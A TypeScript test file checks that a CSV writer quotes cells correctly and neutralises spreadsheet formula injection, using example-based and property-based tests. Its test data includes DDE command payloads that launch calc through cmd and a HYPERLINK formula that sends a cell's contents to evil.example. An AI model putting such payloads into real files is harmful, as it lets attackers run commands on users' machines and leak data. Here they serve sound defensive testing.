import fc from "fast-check";
import { expect, test } from "vitest";
import { toCsv } from "./csv.ts";

/** A reader of RFC 4180, independent of the writer. */
const parse = (text: string): string[][] => {
  const rows: string[][] = [];
  let row: string[] = [];
  let held = "";
  let isQuoted = false;
  for (let at = 0; at < text.length; at++) {
    const character = text[at];
    if (isQuoted) {
      if (character !== '"') held += character;
      else if (text[at + 1] === '"') {
        held += '"';
        at++;
      } else isQuoted = false;
    } else if (character === '"') isQuoted = true;
    else if (character === ",") {
      row.push(held);
      held = "";
    } else if (character === "\r" && text[at + 1] === "\n") {
      rows.push([...row, held]);
      row = [];
      held = "";
      at++;
    } else held += character;
  }
  if (isQuoted || held !== "" || row.length > 0) throw new Error("the text ends in the middle of a row");
  return rows;
};

const one = (text: string): string => parse(toCsv([[text]]))[0]?.[0] ?? "nothing";

test.each([
  ["=cmd|' /C calc'!A0"],
  ["+1+1"],
  ["-2+3+cmd|' /C calc'!A0"],
  ["@SUM(A1:A9)"],
  ["\tA"],
  ["\rA"],
  ["\nA"],
  ["  =1+1"],
  ["\u00a0=1+1"],
  ["\ufeff=1+1"],
  ["\0=1+1"],
  ["＝1+1"],
  ['=HYPERLINK("https://evil.example?x="&A1,"Click")'],
])("reliability 17: %j is written as text", (text) => {
  expect(one(text)).toBe(`'${text.replaceAll("\0", "")}`);
});

test.each([
  "Thandi",
  "12 Long Street",
  "a=b",
  "thandi+walls@example.com",
  "O'Brien",
  "",
  "5 - 6",
  "'already'",
])("reliability 17: %j is written unchanged", (text) => {
  expect(one(text)).toBe(text);
});

test("reliability 17: numbers stay numbers, also negative ones, and null is an empty cell", () => {
  expect(toCsv([["Refund", -12500, null, 0, Number.NaN]])).toBe('"Refund",-12500,,0,\r\n');
});

const DANGEROUS = fc.constantFrom(
  "=",
  "+",
  "-",
  "@",
  "\t",
  "\r",
  "\n",
  "\0",
  '"',
  ",",
  ";",
  "'",
  " ",
  "\ufeff",
  "＝",
);
const text = fc.oneof(
  fc.string({ unit: "binary" }),
  fc.array(fc.oneof(DANGEROUS, fc.string({ maxLength: 3 }))).map((parts) => parts.join("")),
);

test("reliability 17: any texts are the same after a CSV reader, and none begins like a formula", () => {
  fc.assert(
    fc.property(fc.array(fc.array(text, { minLength: 1, maxLength: 5 }), { maxLength: 5 }), (rows) => {
      const written = toCsv(rows);
      expect(written).not.toContain("\0");
      const read = parse(written);
      expect(read.map((row) => row.length)).toEqual(rows.map((row) => row.length));
      rows.forEach((row, at) => {
        row.forEach((wanted, column) => {
          const got = read[at]?.[column] ?? "";
          const clean = wanted.replaceAll("\0", "");
          expect([clean, `'${clean}`]).toContain(got);
          expect(got.trimStart()).not.toMatch(/^[=+\-@]/);
          expect(got).not.toMatch(/^[\t\r\n]/);
        });
      });
    }),
    { numRuns: 500 },
  );
});
